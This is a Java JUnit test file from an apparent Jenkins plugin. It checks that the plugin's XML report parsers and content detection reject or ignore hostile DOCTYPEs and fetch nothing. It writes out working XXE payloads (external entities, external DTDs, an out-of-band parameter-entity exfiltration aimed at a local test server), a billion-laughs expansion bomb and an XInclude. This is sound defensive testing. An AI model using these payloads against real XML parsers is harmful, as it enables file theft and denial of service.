package io.jenkins.plugins.dsomm.ingest;

import io.jenkins.plugins.dsomm.CountingHttpServer;
import io.jenkins.plugins.dsomm.evidence.Evidence;
import io.jenkins.plugins.dsomm.evidence.Finding;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

/**
 * Hostile XML against every XML parser and against content detection: DOCTYPEs with external entities (HTTP and
 * file), an external DTD, parameter entities, entity expansion bombs and XInclude. Nothing is fetched (a local HTTP
 * server counts requests: none), nothing is resolved or expanded: each input is either refused with a message
 * naming the entity, or read exactly as the same report without the DOCTYPE.
 */
class HostileXmlTest {
    private static CountingHttpServer server;
    private static Path secret;

    @BeforeAll
    static void start() throws IOException {
        server = new CountingHttpServer();
        secret = Files.createTempFile("dsomm-secret", ".txt");
        Files.writeString(secret, "LEAKED-FROM-FILE");
    }

    @AfterAll
    static void stop() throws IOException {
        server.close();
        Files.deleteIfExists(secret);
    }

    /** The XML parsers: every registered format of the XML family. */
    private static List<ReportParser> xmlParsers() {
        return ParserRegistry.defaults().all().stream()
                .filter(p -> p.format().family() == ReportFormat.Family.XML).toList();
    }

    /** The first fixture of a format. */
    private static byte[] fixture(final String format) throws IOException, URISyntaxException {
        Path dir = Path.of(HostileXmlTest.class.getResource("/reports/" + format).toURI());
        try (Stream<Path> files = Files.list(dir)) {
            return Files.readAllBytes(files.sorted().findFirst().orElseThrow());
        }
    }

    /**
     * The hostile variants of a report: a DOCTYPE after the XML declaration and, where the payload has an entity
     * to refer to, a reference as the first content of the root element or in an attribute of it.
     */
    private static Map<String, String> variants(final String report) {
        String http = server.url();
        String file = secret.toUri().toString();
        StringBuilder lol = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            String prev = "&lol" + (i - 1) + ";";
            lol.append("<!ENTITY lol").append(i).append(" \"").append(prev.repeat(10)).append("\">");
        }
        Map<String, String> v = new LinkedHashMap<>();
        v.put("external entity over HTTP", with(report, "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + http
                + "/entity\">]>", "&xxe;", null));
        v.put("external entity over HTTP in an attribute", with(report, "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + http
                + "/attribute\">]>", null, "&xxe;"));
        v.put("external entity from a file", with(report, "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + file + "\">]>",
                "&xxe;", null));
        v.put("external DTD", with(report, "<!DOCTYPE r SYSTEM \"" + http + "/external.dtd\">", null, null));
        v.put("external DTD with a public id", with(report, "<!DOCTYPE r PUBLIC \"-//DSOMM//Hostile//EN\" \"" + http
                + "/public.dtd\">", null, null));
        v.put("parameter entity", with(report, "<!DOCTYPE r [<!ENTITY % pe SYSTEM \"" + http
                + "/parameter\"> %pe; ]>", "&leaked;", null));
        v.put("parameter entity out-of-band", with(report, "<!DOCTYPE r [<!ENTITY % file SYSTEM \"" + file
                + "\"><!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + http + "/oob?%file;'>\"> %wrap; %send; ]>",
                null, null));
        v.put("billion laughs", with(report, "<!DOCTYPE r [" + lol + "]>", "&lol9;", null));
        v.put("billion laughs in an attribute", with(report, "<!DOCTYPE r [" + lol + "]>", null, "&lol9;"));
        v.put("internal entity", with(report, "<!DOCTYPE r [<!ENTITY greeting \"LEAKED-INTERNAL\">]>", "&greeting;",
                null));
        v.put("XInclude", with(report, null, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + http
                + "/xinclude\" parse=\"text\"/>", null));
        return v;
    }

    private static String with(final String report, final String doctype, final String content,
            final String attribute) {
        int root = rootStart(report);
        int rootEnd = report.indexOf('>', root);
        boolean empty = report.charAt(rootEnd - 1) == '/';
        StringBuilder b = new StringBuilder(report.length() + 2048);
        String prolog = report.substring(0, root);
        int own = prolog.indexOf("<!DOCTYPE");
        if (doctype != null && own >= 0) { // the report's own DOCTYPE (Burp writes one) is replaced
            int gt = prolog.indexOf('>', own);
            int bracket = prolog.indexOf('[', own);
            int end = bracket >= 0 && bracket < gt ? prolog.indexOf("]>", own) + 2 : gt + 1;
            prolog = prolog.substring(0, own) + prolog.substring(end);
        }
        if (doctype != null) {
            int decl = prolog.startsWith("<?xml") ? prolog.indexOf("?>") + 2 : 0;
            b.append(prolog, 0, decl).append('\n').append(doctype).append('\n').append(prolog.substring(decl));
        }
        else {
            b.append(prolog);
        }
        b.append(report, root, empty ? rootEnd - 1 : rootEnd);
        if (attribute != null) {
            b.append(" dsomm-hostile=\"").append(attribute).append('"');
        }
        b.append(empty ? "/>" : ">");
        if (content != null && !empty) {
            b.append(content);
        }
        b.append(report.substring(rootEnd + 1));
        return b.toString();
    }

    /** The index of the root element's start tag. */
    private static int rootStart(final String xml) {
        int i = 0;
        while (true) {
            i = xml.indexOf('<', i);
            char next = xml.charAt(i + 1);
            if (Character.isLetter(next) || next == '_') {
                return i;
            }
            i = next == '!' && xml.startsWith("<!--", i) ? xml.indexOf("-->", i) : i + 1;
        }
    }

    @Test
    void everyXmlParserRefusesOrIgnoresDoctypesAndFetchesNothing() throws Exception {
        List<ReportParser> parsers = xmlParsers();
        assertThat(parsers).hasSizeGreaterThanOrEqualTo(10); // ParserRegistryTest: each one's fixtures are XML
        List<String> tried = new ArrayList<>();
        Map<String, String> outcomes = new LinkedHashMap<>();
        for (ReportParser parser : parsers) {
            String report = new String(fixture(parser.id()), StandardCharsets.UTF_8);
            Evidence plain = parser.parse(ReportSource.of("plain.xml", report.getBytes(StandardCharsets.UTF_8)));
            for (Map.Entry<String, String> variant : variants(report).entrySet()) {
                String what = parser.id() + " with " + variant.getKey();
                byte[] hostile = variant.getValue().getBytes(StandardCharsets.UTF_8);
                tried.add(what);
                try {
                    List<Evidence> read = parser.parseAll(ReportSource.of("hostile.xml", hostile));
                    assertThat(read).as(what).hasSize(1);
                    assertSameReport(what, read.get(0), plain);
                    outcomes.put(variant.getKey(), outcomes.getOrDefault(variant.getKey(), "") + "R");
                }
                catch (ParseException e) {
                    assertThat(e.getMessage()).as(what).startsWith("hostile.xml (" + parser.id() + "): ");
                    assertThat(e.problem()).as(what).startsWith("refers to an XML entity (&")
                            .contains("DSOMM Gate never resolves or expands XML entities (XXE protection)");
                    outcomes.put(variant.getKey(), outcomes.getOrDefault(variant.getKey(), "") + "E");
                }
                IngestedFile detected = new Ingestor().readFile(ReportSource.of("hostile.xml", hostile), null);
                if (variant.getKey().endsWith("in an attribute")) {
                    // the root element itself cannot be read, so no format is detected: a clear error all the same
                    assertThat(detected.status()).as(what).isEqualTo(IngestedFile.Status.ERROR);
                    assertThat(detected.error()).as(what).startsWith("hostile.xml: refers to an XML entity (&");
                }
                else {
                    assertThat(detected.format()).as(what + " detected").isEqualTo(parser.id());
                    assertThat(detected.error() == null ? "" : detected.error()).as(what)
                            .doesNotContain("internal error");
                }
            }
        }
        assertThat(tried).hasSize(parsers.size() * 11);
        // R: read as without the DOCTYPE, E: refused naming the entity; one letter per parser
        String all = "R".repeat(parsers.size());
        String none = "E".repeat(parsers.size());
        assertThat(outcomes).containsExactly(entry("external entity over HTTP", none),
                entry("external entity over HTTP in an attribute", none), entry("external entity from a file", none),
                entry("external DTD", all), entry("external DTD with a public id", all),
                entry("parameter entity", none), entry("parameter entity out-of-band", all),
                entry("billion laughs", none), entry("billion laughs in an attribute", none),
                entry("internal entity", none), entry("XInclude", all));
        assertThat(server.requests()).as("requests the XML parsers made").isEmpty();
    }

    @Test
    void contentDetectionRefusesOrIgnoresDoctypesAndFetchesNothing() throws Exception {
        for (ReportParser parser : xmlParsers()) {
            String report = new String(fixture(parser.id()), StandardCharsets.UTF_8);
            Sniff.XmlRoot plain = Sniff.of("plain.xml", report.getBytes(StandardCharsets.UTF_8)).xml();
            for (Map.Entry<String, String> variant : variants(report).entrySet()) {
                Sniff sniff = Sniff.of("hostile.xml", variant.getValue().getBytes(StandardCharsets.UTF_8));
                Sniff.XmlRoot root = sniff.xml();
                String what = parser.id() + " with " + variant.getKey();
                if (variant.getKey().endsWith("in an attribute")) {
                    assertThat(root).as(what).isNull();
                    assertThat(sniff.xmlRefersToEntity()).as(what).isTrue();
                    assertThat(sniff.xmlProblem()).as(what).contains("never resolves or expands XML entities");
                    continue;
                }
                assertThat(root).as(what).isNotNull();
                assertThat(root.name()).as(what).isEqualTo(plain.name());
                assertThat(root.namespace()).as(what).isEqualTo(plain.namespace());
                assertThat(root.attributes().values()).as(what).noneMatch(a -> a.contains("LEAKED") || a.contains("lol"));
                assertThat(sniff.xmlProblem()).as(what).isNull();
                assertThat(ParserRegistry.defaults().detect(sniff)).as(what).hasValueSatisfying(p ->
                        assertThat(p.id()).isEqualTo(parser.id()));
            }
        }
        assertThat(server.requests()).as("requests content detection made").isEmpty();
    }

    /** Read as if the DOCTYPE were not there: the same counts, and nothing from an entity in any string. */
    private static void assertSameReport(final String what, final Evidence read, final Evidence plain) {
        assertThat(read.open()).as(what).isEqualTo(plain.open());
        assertThat(read.suppressed()).as(what).isEqualTo(plain.suppressed());
        assertThat(read.components()).as(what).isEqualTo(plain.components());
        assertThat(read.tool()).as(what).isEqualTo(plain.tool());
        assertThat(read.toolVersion()).as(what).isEqualTo(plain.toolVersion());
        assertThat(read.findings()).as(what).extracting(Finding::title)
                .containsExactlyElementsOf(plain.findings().stream().map(Finding::title).toList());
        for (Finding f : read.findings()) {
            assertThat(f.rule() + f.title() + f.location()).as(what).doesNotContain("LEAKED").doesNotContain("lollol");
        }
    }
}
